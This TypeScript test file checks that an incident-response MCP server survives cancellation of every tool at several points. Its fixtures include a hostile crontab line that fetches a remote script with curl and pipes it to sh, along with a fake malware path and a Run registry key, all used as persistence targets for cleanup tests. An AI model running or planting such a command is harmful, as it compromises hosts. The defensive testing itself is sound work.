/**
 * No cancel, at any point of any tool, crashes the server or leaves it in a bad state. The built `megaraptor mcp`
 * runs over stdio with the SDK client (respond mode, so every tool is listed) against the API test server; every tool
 * in the registry is called with valid sample arguments and cancelled with the SDK's AbortController at several
 * points: at once, on the first progress notification, mid-stream (right after the test server sent a batch of rows
 * for the call), and after two delays. A tool that plans first is cancelled in the plan and in the confirmed call.
 * After every cancel the process must be alive, have written no uncaught error to stderr, answer the next call exactly
 * as before, and at the end answer the tool itself as it did before any cancel.
 *
 * The Pulumi engine is kept off the child's PATH and Docker and cloud credentials point nowhere, so deployment tools
 * run their own code up to the engine and end there; the engine's own cancellation is tested in test/engine.
 */
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import type { StdioClientTransport } from "@modelcontextprotocol/sdk/client/stdio.js";
import { spawn, type ChildProcess } from "node:child_process";
import type { CallToolResult } from "@modelcontextprotocol/sdk/types.js";
import { existsSync, mkdtempSync } from "node:fs";
import { delimiter, join } from "node:path";
import { tmpdir } from "node:os";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { verifyAuditFile } from "../../core/audit.js";
import { IntegrityKeys } from "../../core/integrity.js";
import { packageRoot } from "../../core/paths.js";
import { safetyOf } from "../../mcp/tools/define.js";
import { TOOLS } from "../../mcp/tools/index.js";
import { startTestServer, type TestServer } from "../../test-server/index.js";
import { MAIN, startMcp, type StartedMcp } from "../helpers/mcp.js";
import { HR as WIN2, LINUX, LINUX as WEB, WIN, WIN as FIN } from "../helpers/fixture-ids.js";

const EVIL = "C:\\Users\\bob\\AppData\\Local\\Temp\\upd.exe";
const RUN_KEY = "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
const CRON_LINE = "*/5 * * * * curl -s http://185.220.101.4/k.sh | sh";
const NO_DEPLOYMENT = "cancel-none";

type Fixture = "default" | "incident";
interface Sample {
  fixture: Fixture;
  args: Record<string, unknown> | ((h: Harness) => Promise<Record<string, unknown>>);
}

/** Valid sample arguments for every tool (the first test checks this table covers the registry). */
const SAMPLES: Record<string, Sample> = {
  list_clients: { fixture: "default", args: { limit: 5 } },
  get_client_info: { fixture: "default", args: { client_id: WIN } },
  label_client: { fixture: "default", args: { client_id: LINUX, labels: ["cancel-test"], operation: "add" } },
  quarantine_client: { fixture: "default", args: { client_id: LINUX, message: "IR in progress" } },
  list_artifacts: { fixture: "default", args: { search: "Pslist" } },
  get_artifact: { fixture: "default", args: { artifact_name: "Windows.System.Pslist" } },
  collect_artifact: { fixture: "default", args: { client_id: WIN, artifacts: ["Windows.System.Pslist"], wait: true, wait_timeout: 30 } },
  create_hunt: { fixture: "default", args: { artifacts: ["Windows.System.Pslist"], description: "cancel test", os_filter: "windows", paused: false } },
  list_hunts: { fixture: "default", args: {} },
  get_hunt_results: { fixture: "default", args: { hunt_id: "H.CT1HUNT0001" } },
  modify_hunt: { fixture: "default", args: { hunt_id: "H.CT1HUNT0002", action: "start" } },
  list_flows: { fixture: "default", args: { client_id: WIN } },
  get_flow_status: { fixture: "default", args: { client_id: WIN, flow_id: "F.CT1PSLIST01" } },
  get_flow_results: { fixture: "default", args: { client_id: LINUX, flow_id: "F.BIGSTREAM01", limit: 1000 } },
  cancel_flow: {
    fixture: "default",
    // A fresh running flow for every call.
    args: async (h) => ({ client_id: WIN, flow_id: (await h.call("default", "collect_artifact", { client_id: WIN, artifacts: ["Generic.Client.Info"] })).structured!.flow_id }),
  },
  run_vql: { fixture: "default", args: { query: "SELECT * FROM source(client_id=C, flow_id='F.BIGSTREAM01')", env: { C: LINUX }, max_rows: 20_000, spill_to_file: true } },
  vql_help: { fixture: "default", args: { topic: "hunt" } },
  validate_vql: { fixture: "default", args: { query: "SELECT * FROM clients() LIMIT 5" } },
  stack_results: { fixture: "default", args: { hunt_id: "H.CT1HUNT0001", group_by: ["Username"] } },
  export_results: { fixture: "default", args: { client_id: WIN, flow_id: "F.CT1PSLIST01" } },
  generate_timeline: { fixture: "incident", args: { client_id: FIN, limit: 1000 } },
  extract_iocs: { fixture: "incident", args: { hunt_ids: ["H.PSWIN00001", "H.NETWIN0001"], limit: 500 } },
  correlate: { fixture: "incident", args: { hunt_ids: ["H.PSWIN00001", "H.NETWIN0001", "H.PSLIN00001"], indicators: ["185.220.101[.]4"] } },
  list_collection_templates: { fixture: "default", args: {} },
  collect_template: { fixture: "incident", args: { client_id: FIN, template: "malware", skip_missing: true, wait: true, wait_timeout: 30 } },
  hunt_template: { fixture: "incident", args: { template: "persistence", os: "linux" } },
  collect_bulk: { fixture: "default", args: { client_ids: [WIN, WIN2], artifacts: ["Windows.System.Pslist"], wait: true, wait_timeout: 30 } },
  quick_triage: { fixture: "incident", args: { client_id: FIN, wait_timeout: 30 } },
  remediate_file: { fixture: "incident", args: { client_id: FIN, path: EVIL, case_id: "CANCEL-DRY", dry_run: true } },
  kill_process: { fixture: "incident", args: { client_id: FIN, pid: 5012, case_id: "CANCEL-DRY", dry_run: true } },
  remove_persistence: { fixture: "incident", args: { client_id: FIN, kind: "run_key", target: RUN_KEY, value_name: "Updater", case_id: "CANCEL-DRY", dry_run: true } },
  list_changes: { fixture: "incident", args: { case_id: "CANCEL-LEDGER" } },
  rollback_change: { fixture: "incident", args: { case_id: "CANCEL-LEDGER", seq: 1, dry_run: true } },
  generate_report: { fixture: "incident", args: { case_id: "CANCEL-LEDGER", title: "Cancel test", client_id: FIN, hunt_ids: ["H.NETWIN0001"], formats: ["markdown"] } },
  list_flow_uploads: { fixture: "default", args: { client_id: WIN, flow_id: "F.CT1NETSTAT1" } },
  download_flow_file: {
    fixture: "default",
    // 12 MiB of the 50 MiB upload: three 4 MiB VFSGetBuffer chunks, so cancels land between chunks too.
    args: async (h) => ({ client_id: WIN, flow_id: "F.CT1NETSTAT1", path: (await h.call("default", "list_flow_uploads", { client_id: WIN, flow_id: "F.CT1NETSTAT1" })).structured!.rows[0].path, max_bytes: 12 * 1024 * 1024 }),
  },
  export_flow: { fixture: "default", args: { client_id: WIN, flow_id: "F.CT1PSLIST01" } },
  get_server_info: { fixture: "default", args: {} },
  list_toolsets: { fixture: "default", args: {} },
  enable_toolsets: { fixture: "default", args: { toolsets: ["deploy"] } },
  list_orgs: { fixture: "default", args: {} },
  find_client: { fixture: "default", args: { hostname: "SUB-WKS" } },
  generate_server_config: { fixture: "default", args: { deployment_id: NO_DEPLOYMENT } },
  generate_api_credentials: { fixture: "default", args: { deployment_id: NO_DEPLOYMENT } },
  deploy_agents_ssh: { fixture: "default", args: { deployment_id: NO_DEPLOYMENT, targets: ["127.0.0.1"], username: "root", binary_sha256: "e".repeat(64) } },
  check_agent_deployment: { fixture: "default", args: { deployment_id: NO_DEPLOYMENT } },
  rotate_certificates: { fixture: "default", args: { deployment_id: NO_DEPLOYMENT } },
  export_deployment_docs: { fixture: "default", args: { deployment_id: NO_DEPLOYMENT } },
  validate_deployment: { fixture: "default", args: { deployment_id: NO_DEPLOYMENT } },
  deploy_server: { fixture: "default", args: { deployment_id: "cancel-ssh", target: "ssh", hostname: "vr.example.com", ssh: { host: "127.0.0.1", user: "root", binary_sha256: "e".repeat(64) }, wait_healthy: false } },
  preview_deployment: { fixture: "default", args: { deployment_id: "cancel-ssh", target: "ssh", hostname: "vr.example.com", ssh: { host: "127.0.0.1", user: "root", binary_sha256: "e".repeat(64) } } },
  deploy_server_docker: { fixture: "default", args: { deployment_id: "cancel-docker", wait_healthy: false } },
  deploy_server_cloud: { fixture: "default", args: { deployment_id: "cancel-aws", cloud_provider: "aws", region: "us-east-1", hostname: "vr.example.com", binary_sha256: "e".repeat(64), wait_healthy: false } },
  get_deployment_status: { fixture: "default", args: { deployment_id: NO_DEPLOYMENT } },
  list_deployments: { fixture: "default", args: {} },
  destroy_deployment: { fixture: "default", args: { deployment_id: NO_DEPLOYMENT, reason: "cancel test" } },
  refresh_deployment: { fixture: "default", args: { deployment_id: NO_DEPLOYMENT } },
  rollback_deployment: { fixture: "default", args: { deployment_id: NO_DEPLOYMENT } },
  save_deployment_template: { fixture: "default", args: { deployment_id: NO_DEPLOYMENT, template_name: "cancel-t" } },
  list_deployment_templates: { fixture: "default", args: {} },
  store_credential: { fixture: "default", args: { alias: "cancel-cred", kind: "password", secret: "s3cret-cancel" } },
  list_credentials: { fixture: "default", args: {} },
  delete_credential: {
    fixture: "default",
    // Something to delete on every call.
    args: async (h) => {
      await h.call("default", "store_credential", { alias: "cancel-del", kind: "token", secret: "to-be-deleted" });
      return { alias: "cancel-del" };
    },
  },
  generate_gpo_package: { fixture: "default", args: { deployment_id: NO_DEPLOYMENT } },
  generate_ansible_playbook: { fixture: "default", args: { deployment_id: NO_DEPLOYMENT } },
  generate_agent_installer: { fixture: "default", args: { deployment_id: NO_DEPLOYMENT, os_type: "linux", binary_sha256: "e".repeat(64) } },
  create_offline_collector: { fixture: "default", args: { artifacts: ["Generic.Client.Info"], target_os: "linux" } },
};

type Outcome = { kind: "ok" | "error" | "cancelled" | "protocol"; code?: string; structured?: Record<string, any>; confirm_token?: string; message?: string };
type Point = "immediately" | "first-progress" | "mid-stream" | "after-100ms" | "after-700ms";
const POINTS: Point[] = ["immediately", "first-progress", "mid-stream", "after-100ms", "after-700ms"];

/** A child PATH without the Pulumi CLI (see the file comment). */
function pathWithoutPulumi(): string {
  return (process.env.PATH ?? "").split(delimiter).filter((d) => d && !existsSync(join(d, "pulumi"))).join(delimiter);
}

class Harness {
  readonly servers = new Map<Fixture, { vr: TestServer; config: string; mcp?: StartedMcp; stderr: string[]; restarts: number }>();
  readonly failures: string[] = [];
  readonly reached = new Map<string, Set<string>>();
  private probe = new Map<Fixture, unknown>();
  private env!: Record<string, string>;

  async start(): Promise<void> {
    const home = mkdtempSync(join(tmpdir(), "mr-cancel-"));
    this.env = {
      PATH: pathWithoutPulumi(),
      MEGARAPTOR_EVIDENCE_DIR: join(home, "evidence"),
      MEGARAPTOR_CASES_DIR: join(home, "cases"),
      MEGARAPTOR_TEMPLATE_DIR: join(home, "no-templates"),
      MEGARAPTOR_CREDENTIAL_PASSPHRASE: "cancel test passphrase",
      MEGARAPTOR_HEALTH_TIMEOUT: "1",
      DOCKER_HOST: `unix://${join(home, "no-docker.sock")}`,
      AWS_EC2_METADATA_DISABLED: "true",
      AWS_ACCESS_KEY_ID: "",
      AWS_SECRET_ACCESS_KEY: "",
    };
    for (const [fixture, file] of [["default", undefined], ["incident", join(packageRoot(), "test", "fixtures", "incident.json")]] as const) {
      const vr = await startTestServer({ fixture: file, flowCompletionMs: 400 });
      this.servers.set(fixture, { vr, config: vr.writeApiClientYaml(mkdtempSync(join(tmpdir(), `mr-cancel-${fixture}-`))), stderr: [], restarts: 0 });
      await this.spawn(fixture);
    }
    for (const f of this.servers.keys()) this.probe.set(f, await this.probeOnce(f));
  }

  private async spawn(fixture: Fixture): Promise<void> {
    const s = this.servers.get(fixture)!;
    s.mcp = await startMcp({ args: ["--mode", "respond", "--config", s.config], env: this.env });
    const stderr = (s.mcp.client.transport as StdioClientTransport).stderr;
    stderr?.on("data", (d: Buffer) => void s.stderr.push(d.toString()));
  }

  client(fixture: Fixture): Client {
    return this.servers.get(fixture)!.mcp!.client;
  }

  pid(fixture: Fixture): number | null {
    return (this.client(fixture).transport as StdioClientTransport | undefined)?.pid ?? null;
  }

  async stop(): Promise<void> {
    for (const s of this.servers.values()) {
      await s.mcp?.close();
      await s.vr.stop();
    }
  }

  /** Calls a tool; cancelled with `signal` it reports "cancelled" (the SDK rejects with the abort reason). */
  async call(fixture: Fixture, name: string, args: Record<string, unknown>, opts: { signal?: AbortSignal; onprogress?: () => void } = {}): Promise<Outcome> {
    try {
      const r = (await this.client(fixture).callTool({ name, arguments: args }, undefined, { signal: opts.signal, onprogress: opts.onprogress, timeout: 120_000 })) as CallToolResult;
      const text = r.content[0]?.type === "text" ? r.content[0].text : "";
      if (!r.isError) return { kind: "ok", structured: r.structuredContent as Record<string, any> };
      try {
        const e = (JSON.parse(text) as { error: { code: string; message: string; confirm_token?: string } }).error;
        return { kind: "error", code: e.code, message: e.message, confirm_token: e.confirm_token };
      } catch {
        return { kind: "protocol", message: text };
      }
    } catch (err) {
      if (opts.signal?.aborted) return { kind: "cancelled", message: String(err) };
      return { kind: "protocol", message: String(err) };
    }
  }

  /** The same cheap read before and after every cancel: the server must answer it identically. */
  private async probeOnce(fixture: Fixture): Promise<unknown> {
    const r = await this.call(fixture, "get_client_info", { client_id: WIN });
    return r.structured ?? r;
  }

  async argsOf(name: string): Promise<Record<string, unknown>> {
    const s = SAMPLES[name]!;
    return typeof s.args === "function" ? s.args(this) : s.args;
  }

  /** A confirmed call needs a fresh token each time: ask for the plan, then call again with it. */
  async confirmedArgs(fixture: Fixture, name: string, args: Record<string, unknown>): Promise<Record<string, unknown> | undefined> {
    const plan = await this.call(fixture, name, args);
    // Respond-tier tools and destructive plans also need the user's reason on the confirming call.
    return plan.code === "CONFIRMATION_REQUIRED" && plan.confirm_token ? { ...args, confirm_token: plan.confirm_token, reason: (args.reason as string | undefined) ?? "cancel test" } : undefined;
  }

  /** One cancel of `name` at `point`; then the server must be alive and answer the probe as before. */
  async cancelAt(fixture: Fixture, name: string, args: Record<string, unknown>, point: Point, label: string): Promise<void> {
    const s = this.servers.get(fixture)!;
    const ac = new AbortController();
    const abort = () => ac.abort();
    let timer: NodeJS.Timeout | undefined;
    if (point === "mid-stream") s.vr.events.once("batch", abort);
    const pending = this.call(fixture, name, args, { signal: ac.signal, onprogress: point === "first-progress" ? abort : undefined });
    if (point === "immediately") setImmediate(abort);
    if (point === "after-100ms") timer = setTimeout(abort, 100);
    if (point === "after-700ms") timer = setTimeout(abort, 700);
    const r = await pending;
    clearTimeout(timer);
    s.vr.events.off("batch", abort);
    if (r.kind === "cancelled") (this.reached.get(name) ?? this.reached.set(name, new Set()).get(name)!).add(label);
    else if (r.kind === "protocol") this.failures.push(`${name} [${label}]: protocol failure without a cancel: ${r.message}`);
    // Let the cancel reach the server and whatever it triggers there finish or fail.
    await new Promise((res) => setTimeout(res, 150));
    await this.checkHealthy(fixture, `${name} [${label}]`);
  }

  async checkHealthy(fixture: Fixture, where: string): Promise<void> {
    const s = this.servers.get(fixture)!;
    const pid = this.pid(fixture);
    let alive = pid !== null;
    try {
      if (pid !== null) process.kill(pid, 0);
    } catch {
      alive = false;
    }
    const crash = s.stderr.join("").match(/Unhandled|uncaught|node:internal|^\s+at .*\(.*\.js:\d+:\d+\)/m);
    if (!alive || crash) {
      this.failures.push(`${where}: server process ${alive ? "wrote a crash trace" : "is gone"}${crash ? ` (${crash[0]})` : ""}: ${s.stderr.join("").slice(-600)}`);
      await s.mcp?.close().catch(() => undefined);
      s.stderr.length = 0;
      s.restarts++;
      await this.spawn(fixture);
      return;
    }
    const now = await this.probeOnce(fixture).catch((e: unknown) => ({ probeFailed: String(e) }));
    if (JSON.stringify(now) !== JSON.stringify(this.probe.get(fixture))) this.failures.push(`${where}: the next call answered differently: ${JSON.stringify(now).slice(0, 300)}`);
  }
}

const built = existsSync(MAIN);
const h = new Harness();

describe.skipIf(!built)(`cancelling every tool at every point${built ? "" : " (skipped: run npm run build first)"}`, () => {
  beforeAll(async () => {
    await h.start();
    // A rollback-able ledger entry for list_changes / rollback_change / generate_report.
    const persistence = { client_id: WEB, kind: "cron", target: "/var/spool/cron/crontabs/www-data", value_name: CRON_LINE, case_id: "CANCEL-LEDGER" };
    const setup = await h.call("incident", "remove_persistence", { ...(await h.confirmedArgs("incident", "remove_persistence", persistence))!, reason: "setup for the cancel test" });
    expect(setup.kind, JSON.stringify(setup)).toBe("ok");
  }, 120_000);
  afterAll(() => h.stop());

  it("has valid sample arguments for every tool in the registry", () => {
    expect(Object.keys(SAMPLES).sort()).toEqual(TOOLS.map((t) => t.name).sort());
  });

  it.each(TOOLS.map((t) => [t.name, t] as const))("%s", async (name, def) => {
    const fixture = SAMPLES[name]!.fixture;
    const failuresBefore = h.failures.length;
    // The un-cancelled answer: the arguments are valid (no schema or protocol error) and nothing is INTERNAL.
    const args = await h.argsOf(name);
    const baseline = await h.call(fixture, name, args);
    expect(baseline.kind, `${name}: ${baseline.message ?? ""}`).not.toBe("protocol");
    expect(baseline.code ?? "", `${name}: ${baseline.message ?? ""}`).not.toMatch(/^(INVALID_INPUT|INTERNAL)$/);
    const planned = baseline.code === "CONFIRMATION_REQUIRED";

    for (const point of POINTS) {
      await h.cancelAt(fixture, name, await h.argsOf(name), point, planned ? `plan, ${point}` : point);
      if (planned) {
        const confirmed = await h.confirmedArgs(fixture, name, await h.argsOf(name));
        expect(confirmed, `${name}: no confirm_token`).toBeDefined();
        await h.cancelAt(fixture, name, confirmed!, point, `confirmed, ${point}`);
      }
    }

    // Afterwards the tool itself answers as before: same outcome for tools that are idempotent, and in any case a
    // typed answer (never a protocol failure or INTERNAL) for those whose repeat legitimately differs.
    const again = await h.call(fixture, name, await h.argsOf(name));
    expect(again.kind, `${name} after cancels: ${again.message ?? ""}`).not.toBe("protocol");
    expect(again.code ?? "", `${name} after cancels: ${again.message ?? ""}`).not.toBe("INTERNAL");
    if (safetyOf(def).annotations.idempotent) expect(`${again.kind}:${again.code ?? ""}`).toBe(`${baseline.kind}:${baseline.code ?? ""}`);
    expect(h.failures.slice(failuresBefore)).toEqual([]);
  }, 300_000);

  it("reached the cancel points that crashed the server before (collect_artifact and quick_triage waits)", () => {
    for (const t of ["collect_artifact", "quick_triage"]) expect([...(h.reached.get(t) ?? [])], t).toEqual(expect.arrayContaining(["first-progress", "after-700ms"]));
    const total = [...h.reached.values()].reduce((n, s) => n + s.size, 0);
    console.log(`cancel points that took effect: ${total} across ${h.reached.size} tools; restarts after a crash: ${[...h.servers.values()].reduce((n, s) => n + s.restarts, 0)}`);
    expect(total).toBeGreaterThan(TOOLS.length);
  });

  it("never lost the server process", () => {
    expect(h.failures).toEqual([]);
    expect([...h.servers.values()].map((s) => s.restarts)).toEqual([0, 0]);
  });

  it("kept the audit chains intact through every cancel", () => {
    for (const s of h.servers.values()) expect(verifyAuditFile(s.mcp!.auditPath, new IntegrityKeys(join(s.mcp!.home, "keys"))).ok).toBe(true);
  });
});

/**
 * Over stateless Streamable HTTP a cancel is the client dropping the request: the per-request McpServer closes with
 * the response, which aborts the tool's signal. (The SDK client's AbortController only posts notifications/cancelled,
 * which a stateless server — a fresh McpServer per POST — cannot match to the running call; so this drives HTTP
 * with fetch and drops the connection, as a proxy or a closed browser tab would.) The same waits and streams must
 * survive that, and the work must stop on the Velociraptor side.
 */
describe.skipIf(!built)(`cancelling over Streamable HTTP by dropping the request${built ? "" : " (skipped: run npm run build first)"}`, () => {
  const TOKEN = "cancel-test-token-0123456789";
  let vr: TestServer;
  let child: ChildProcess;
  let url: string;
  let stderr = "";
  let id = 0;

  /** POSTs a tools/call and reads its SSE answer; `drop` aborts the request at the chosen point. */
  async function post(name: string, args: Record<string, unknown>, drop?: HttpPoint): Promise<{ dropped: boolean; result?: CallToolResult }> {
    const ac = new AbortController();
    const abort = () => ac.abort();
    if (drop === "mid-stream") vr.events.once("batch", abort);
    const timer = drop === "after-700ms" ? setTimeout(abort, 700) : undefined;
    let text = "";
    try {
      const res = await fetch(url, {
        method: "POST",
        signal: ac.signal,
        headers: { authorization: `Bearer ${TOKEN}`, "content-type": "application/json", accept: "application/json, text/event-stream" },
        body: JSON.stringify({ jsonrpc: "2.0", id: ++id, method: "tools/call", params: { name, arguments: args, _meta: { progressToken: id } } }),
      });
      for await (const chunk of res.body!) {
        text += Buffer.from(chunk).toString();
        if (drop === "first-progress" && text.includes('"notifications/progress"')) abort();
      }
    } catch {
      if (ac.signal.aborted) return { dropped: true };
      throw new Error(`HTTP call failed: ${text}`);
    } finally {
      clearTimeout(timer);
      vr.events.off("batch", abort);
    }
    const answer = text.split("\n").filter((l) => l.startsWith("data: ")).map((l) => JSON.parse(l.slice(6)) as { id?: number; result?: CallToolResult }).find((m) => m.id === id);
    return { dropped: false, result: answer?.result };
  }

  beforeAll(async () => {
    vr = await startTestServer({ flowCompletionMs: 1500 });
    const home = mkdtempSync(join(tmpdir(), "mr-cancel-http-"));
    const config = vr.writeApiClientYaml(home);
    child = spawn(process.execPath, [MAIN, "mcp", "--http", "--port", "0", "--mode", "respond", "--config", config, "--audit-log", join(home, "audit.jsonl")], {
      env: { PATH: pathWithoutPulumi(), HOME: home, MEGARAPTOR_HOME: home, MEGARAPTOR_LOG_LEVEL: "warn", MEGARAPTOR_HTTP_TOKEN: TOKEN, MEGARAPTOR_EVIDENCE_DIR: join(home, "evidence") },
      stdio: ["ignore", "ignore", "pipe"],
    });
    url = await new Promise<string>((resolve, reject) => {
      child.stderr!.on("data", (d: Buffer) => {
        stderr += d.toString();
        const m = /on (http:\/\/\S+\/mcp)/.exec(stderr);
        if (m) resolve(m[1]!);
      });
      child.once("exit", (code) => reject(new Error(`megaraptor mcp --http exited (${code}): ${stderr}`)));
    });
  }, 60_000);
  afterAll(async () => {
    child?.kill("SIGTERM");
    await vr?.stop();
  });

  type HttpPoint = "first-progress" | "mid-stream" | "after-700ms";
  it.each([
    ["collect_artifact", { client_id: WIN, artifacts: ["Windows.System.Pslist"], wait: true, wait_timeout: 30 }, ["first-progress", "mid-stream", "after-700ms"]],
    ["collect_bulk", { client_ids: [WIN, WIN2], artifacts: ["Windows.System.Pslist"], wait: true, wait_timeout: 30 }, ["first-progress", "after-700ms"]],
    // A million rows: were the drop not to reach the query, it would run on for a minute.
    ["export_results", { client_id: LINUX, flow_id: "F.BIGSTREAM01" }, ["mid-stream", "after-700ms"]],
    ["run_vql", { query: "SELECT * FROM source(client_id=C, flow_id='F.BIGSTREAM01')", env: { C: LINUX }, max_rows: 100_000, spill_to_file: true }, ["mid-stream", "after-700ms"]],
    ["get_flow_results", { client_id: LINUX, flow_id: "F.BIGSTREAM01", limit: 1000 }, ["mid-stream"]],
  ] as [string, Record<string, unknown>, HttpPoint[]][])("%s: the dropped request stops its work and the server answers the next", async (name, args, points) => {
    for (const point of points) {
      const r = await post(name, args, point);
      expect(r.dropped, `${name} [${point}]: the call finished before the drop point: ${String(JSON.stringify(r.result)).slice(0, 300)}`).toBe(true);
      for (let waited = 0; vr.stats.active > 0 && waited < 5000; waited += 50) await new Promise((r) => setTimeout(r, 50));
      expect(vr.stats.active, `${name} [${point}]: a query still runs after the request was dropped`).toBe(0);
      expect(child.exitCode, `${name} [${point}]: ${stderr.slice(-500)}`).toBeNull();
      expect(stderr).not.toMatch(/Unhandled|uncaught/i);
      const next = await post("get_client_info", { client_id: WIN });
      expect(next.result?.isError, `${name} [${point}]`).toBeFalsy();
      expect(JSON.stringify(next.result?.structuredContent)).toContain(WIN);
    }
  }, 120_000);
});
